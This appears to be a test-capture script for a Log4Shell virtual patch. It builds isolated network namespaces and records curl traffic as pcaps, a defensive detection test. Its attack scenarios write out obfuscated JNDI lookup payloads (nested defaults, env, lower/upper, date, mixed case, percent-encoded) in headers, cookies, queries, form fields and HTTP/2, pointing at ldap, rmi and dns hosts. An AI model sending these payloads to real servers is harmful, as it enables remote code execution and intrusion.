#!/usr/bin/env bash
# Captures the log4shell virtual patch's test traffic (attacks and benign look-alikes) from real clients.
set -euo pipefail
# Builds two network namespaces joined by a veth pair (client 198.18.3.11, server 198.18.3.12 in
# 198.18.3.0/25), serves HTTP from the server namespace with a tiny python3 http.server that answers
# every method with 200 (reading any body), and records each scenario's client traffic with tcpdump
# into its own pcap beside this script. Run as root; needs ip, python3, tcpdump, curl (and nmap
# where a scenario uses it). Traffic never leaves the two namespaces; both are deleted on exit.
HERE="$(cd "$(dirname "$0")" && pwd)"
NC=tsv-web1-l4j-c
NS=tsv-web1-l4j-s
CIP=198.18.3.11
VC="w1-${NC#tsv-web1-}"; VS="w1-${NS#tsv-web1-}"  # veth names (15 bytes at most)
SIP=198.18.3.12
cleanup() {
  if [ -n "${SRV:-}" ]; then kill "$SRV" 2>/dev/null || true; fi
  if [ -n "${SRV2:-}" ]; then kill "$SRV2" 2>/dev/null || true; fi
  ip netns del "$NC" 2>/dev/null || true
  ip netns del "$NS" 2>/dev/null || true
}
trap cleanup EXIT
cleanup
ip netns add "$NC"
ip netns add "$NS"
ip link add "$VC" type veth peer name "$VS"
ip link set "$VC" netns "$NC"
ip link set "$VS" netns "$NS"
ip -n "$NC" addr add "$CIP/25" dev "$VC"
ip -n "$NS" addr add "$SIP/25" dev "$VS"
ip -n "$NC" link set lo up; ip -n "$NC" link set "$VC" up
ip -n "$NS" link set lo up; ip -n "$NS" link set "$VS" up
# Offloads off so the capture holds wire-sized segments with real checksums: ethtool when present,
# else the same ETHTOOL_STXCSUM request (checksum offload off, which also turns TSO off) via python3.
txoff() {
  ip netns exec "$1" ethtool -K "$2" tso off gso off gro off tx off rx off >/dev/null 2>&1 && return 0
  ip netns exec "$1" python3 -c '
import array, fcntl, socket, struct, sys
ev = array.array("B", struct.pack("II", 0x17, 0))  # struct ethtool_value { ETHTOOL_STXCSUM, 0 }
addr, _ = ev.buffer_info()
ifr = struct.pack("16sP", sys.argv[1].encode(), addr) + bytes(16)
fcntl.ioctl(socket.socket(socket.AF_INET, socket.SOCK_DGRAM), 0x8946, ifr)  # SIOCETHTOOL
' "$2"
}
txoff "$NC" "$VC"
txoff "$NS" "$VS"
ip netns exec "$NS" python3 -c '
import http.server, socketserver
class H(http.server.BaseHTTPRequestHandler):
    def handle_one_request(self):
        self.raw_requestline = self.rfile.readline(65537)
        if not self.raw_requestline: self.close_connection = True; return
        if not self.parse_request(): return
        n = int(self.headers.get("Content-Length") or 0)
        if n: self.rfile.read(n)
        body = b"ok\n"
        self.send_response(200); self.send_header("Content-Type", "text/plain")
        self.send_header("Content-Length", str(len(body))); self.end_headers(); self.wfile.write(body)
    def log_message(self, *a): pass
socketserver.TCPServer.allow_reuse_address = True
http.server.HTTPServer(("0.0.0.0", 80), H).serve_forever()
' 2>/dev/null &
SRV=$!
# An h2c (HTTP/2 prior knowledge) server on 8080: node's http2 module, answering 200 to every stream.
ip netns exec "$NS" node -e '
require("http2").createServer((req, res) => { req.resume(); req.on("end", () => res.end("ok\n")); }).listen(8080, "0.0.0.0");
' 2>/dev/null &
SRV2=$!
for p in 80 8080; do
  for _ in $(seq 50); do ip netns exec "$NC" bash -c "echo > /dev/tcp/$SIP/$p" 2>/dev/null && break; sleep 0.1; done
done
# cap NAME CMD...: runs CMD in the client namespace while tcpdump writes NAME.pcap (ports 80, 8080).
cap() {
  local name="$1"; shift
  ip netns exec "$NC" tcpdump -i "$VC" --immediate-mode -U -w "$HERE/$name.pcap" "tcp port 80 or tcp port 8080" 2>/dev/null &
  local td=$!
  sleep 1
  ip netns exec "$NC" "$@" >/dev/null 2>&1 || echo "($name: client exit $?)"
  sleep 0.5
  kill -INT "$td"; wait "$td" 2>/dev/null || true
  echo "$name.pcap: $(tcpdump -r "$HERE/$name.pcap" 2>/dev/null | wc -l) packets"
}
U="http://$SIP"

# Attacks: the lookup in a header (nested ${::-x} defaults), in User-Agent (${env:X:-x} defaults), in
# the query (percent-encoded, ${lower:}/${upper:}), in a form field (${date:'x'}), in a cookie (mixed case).
cap attack-header-nested curl -s "$U/api/v1/status" -H 'X-Api-Version: ${${::-j}${::-n}${::-d}${::-i}:ldap://198.18.3.11:1389/Exploit}'
cap attack-ua-env curl -s "$U/" -A '${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//198.18.3.11:1389/a}'
cap attack-uri-encoded curl -s --path-as-is "$U/search?q=%24%7B%24%7Blower%3Aj%7D%24%7Bupper%3An%7Ddi%3Aldap%3A%2F%2F198.18.3.11%2Fa%7D"
cap attack-body-date curl -s "$U/login" --data-urlencode "user=\${\${date:'j'}\${date:'n'}\${date:'d'}\${date:'i'}:rmi://198.18.3.11/a}" --data-urlencode "password=hunter2"
cap attack-cookie curl -s "$U/account" -b 'JSESSIONID=${JnDi:dns://198.18.3.11/a}'
# The same header over HTTP/2 (h2c prior knowledge, HPACK-coded), ${upper:} and ${::-} mixed.
cap attack-h2-header curl -s --http2-prior-knowledge "http://$SIP:8080/api" -H 'X-Forwarded-For: ${${upper:j}${::-n}di:ldap://198.18.3.11/a}'
cap benign-h2 curl -s --http2-prior-knowledge "http://$SIP:8080/docs/jndi" -H 'X-Template: ${HOME}'
# Benign: a blog post about JNDI (and a shell variable) in a form, a search for "jndi", ${HOME} in a header.
cap benign-jndi-text curl -s "$U/blog/post" --data-urlencode 'title=What is JNDI?' --data-urlencode 'body=JNDI (Java Naming and Directory Interface) resolves names such as jndi:ldap/people. In your shell, echo ${HOME} and ${PATH:-/usr/bin}; see $JNDI_HOME/docs.'
cap benign-search curl -s "$U/search?q=jndi+lookup+%24%7BHOME%7D" -H 'X-Template: ${HOME}/templates/${user.name}'
